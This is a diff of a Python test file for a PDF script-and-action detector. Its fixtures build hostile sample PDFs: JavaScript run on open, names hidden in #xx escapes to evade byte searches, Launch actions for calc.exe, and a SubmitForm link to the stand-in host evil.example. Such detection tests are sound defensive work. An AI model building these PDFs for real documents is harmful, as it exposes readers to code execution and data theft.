@@ -11,39 +11,21 @@ from zhijiao.resources.pdf_actions import pdf_has_scripts
 
 
 def pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", extra_objects: tuple[bytes, ...] = ()) -> bytes:
-    """A one-page PDF with a correct cross-reference table; objects 5, 6, … are `extra_objects`."""
-    objs = [
-        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R " + page_extra + b" >>",
-        b"<< /Length 0 >>\nstream\n\nendstream",
-        *extra_objects,
-    ]
-    out = io.BytesIO()
-    out.write(b"%PDF-1.4\n")
-    offsets = []
-    for i, body in enumerate(objs, start=1):
-        offsets.append(out.tell())
-        out.write(f"{i} 0 obj\n".encode() + body + b"\nendobj\n")
-    xref = out.tell()
-    out.write(f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode())
-    for off in offsets:
-        out.write(f"{off:010d} 00000 n \n".encode())
-    out.write(f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
-    return out.getvalue()
+    """samples.pdf with these extras; its objects 6, 7, … are `extra_objects`."""
+    return samples.pdf("x", catalog_extra=catalog_extra, page_extra=page_extra, extra_objects=extra_objects)
 
 
-OPEN_ACTION_JS = pdf(b"/OpenAction 5 0 R", extra_objects=(b"<< /S /JavaScript /JS (app.alert(1)) >>",))
+OPEN_ACTION_JS = pdf(b"/OpenAction 6 0 R", extra_objects=(b"<< /S /JavaScript /JS (app.alert(1)) >>",))
 
 
 @pytest.mark.parametrize("data", [
     OPEN_ACTION_JS,
     # the same with its names written in #xx escapes, which a byte search for "/JavaScript" misses
-    pdf(b"/OpenAction 5 0 R", extra_objects=(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",)),
+    pdf(b"/OpenAction 6 0 R", extra_objects=(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",)),
     pdf(b"/OpenAction << /S /Laun#63h /F (calc.exe) >>"),
-    pdf(b"/Names << /J#61vaScript 5 0 R >>", extra_objects=(b"<< /Names [(a) 6 0 R] >>",
+    pdf(b"/Names << /J#61vaScript 6 0 R >>", extra_objects=(b"<< /Names [(a) 7 0 R] >>",
                                                            b"<< /S /J#61vaScript /J#53 (x()) >>")),
-    pdf(page_extra=b"/Annots [5 0 R]", extra_objects=(
+    pdf(page_extra=b"/Annots [6 0 R]", extra_objects=(
         b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Sub#6DitForm /F (http://evil.example/) >> >>",)),
     pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Laun#63h /F (x) >> >>"),  # a chain of actions
     pdf(page_extra=b"/AA << /O << /S /Laun#63h /F (x) >> >>"),  # when the page is opened
@@ -57,7 +39,7 @@ def test_pdfs_with_scripts_or_actions_are_found(data):
 @pytest.mark.parametrize("data", [
     samples.pdf("plain"),
     pdf(b"/OpenAction [3 0 R /Fit]"),  # opens at the first page: no action
-    pdf(page_extra=b"/Annots [5 0 R]", extra_objects=(  # an ordinary web link
+    pdf(page_extra=b"/Annots [6 0 R]", extra_objects=(  # an ordinary web link
         b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://basic.smartedu.cn/) >> >>",)),
 ])
 def test_ordinary_pdfs_are_not_flagged(data):
